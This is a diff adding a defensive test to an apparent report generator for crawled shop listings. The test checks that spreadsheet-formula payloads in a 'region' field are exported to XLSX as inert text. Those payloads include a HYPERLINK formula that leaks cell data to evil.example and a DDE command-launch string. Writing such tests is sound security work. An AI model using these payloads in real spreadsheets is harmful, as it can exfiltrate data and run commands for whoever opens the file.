@@ -111,3 +111,38 @@ def test_report_escapes_page_text(session: Session) -> None:
     )
     html = report_html(monthly_summary(session, "2026-11"))
     assert "<script>x" not in html and "&lt;script&gt;x" in html and "&lt;b&gt;r" in html
+
+
+EVIL_REGION = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+def test_report_xlsx_guards_crawled_values(session: Session) -> None:
+    """Issue 17, finding 6: a crawled region must not become a live formula in the report."""
+    sup = add_user(session, "sup", Role.supervisor)
+    for i, region in enumerate((EVIL_REGION, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1+2")):
+        listing = add_listing(
+            session,
+            "taobao",
+            f"https://item.taobao.com/item.htm?id=7{i}",
+            title="t",
+            text="包授权",
+            shop=f"店{i}",
+            categories=["guaranteed_grant"],
+            region=region,
+        )
+        session.add(
+            Review(
+                listing_id=listing.id, user_id=sup.id, action=ReviewAction.confirm, created_at=T0
+            )
+        )
+    session.flush()
+    report = monthly_summary(session, "2026-11", "某局")
+    assert EVIL_REGION in {r.region for r in report.rows}
+    sheet = load_workbook(io.BytesIO(report_xlsx(report))).active
+    assert sheet is not None
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell was written"
+    texts = {c.value for c in cells if isinstance(c.value, str)}
+    assert "'" + EVIL_REGION in texts and EVIL_REGION not in texts
+    for raw in ("+cmd|'", "@SUM(1+1)", "-1+2"):  # the report groups by the region's first word
+        assert "'" + raw in texts
